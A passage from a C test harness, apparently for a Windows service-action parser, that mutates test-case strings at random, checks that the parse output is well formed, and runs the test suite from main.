					const char *other = cases[rng() % ncases].line;
					size_t ol = strlen(other), from = ol ? rng() % ol : 0, take = rng() % 64;
					if (take > ol - from)
						take = ol - from;
					if (len + take < sizeof(buf) - 1) {
						memmove(buf + pos + take, buf + pos, len - pos + 1);
						memcpy(buf + pos, other + from, take);
						len += take;
					}
				}
				}
			}
			svc_actions_init(&a);
			rc = svc_parse(buf, (rng() & 1) ? cases[i].image : "C:\\Windows\\System32\\sc.exe", &a);
			if (rc != 0 || !well_formed(&a)) {
				failures++;
				fprintf(stderr, "FAIL garbage (rc=%d)\n", rc);
				show(buf, NULL, &a);
			}
			svc_actions_release(&a);
		}
	}
}

int main(void)
{
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		run_case(&cases[i]);
	test_textbook();
	test_lifecycle();
	test_limits();
	test_garbage();
	if (failures) {
		fprintf(stderr, "test_svc_action: %d failure(s)\n", failures);
		return 1;
	}
	printf("test_svc_action: %zu cases passed\n", sizeof(cases) / sizeof(cases[0]));
	return 0;
}
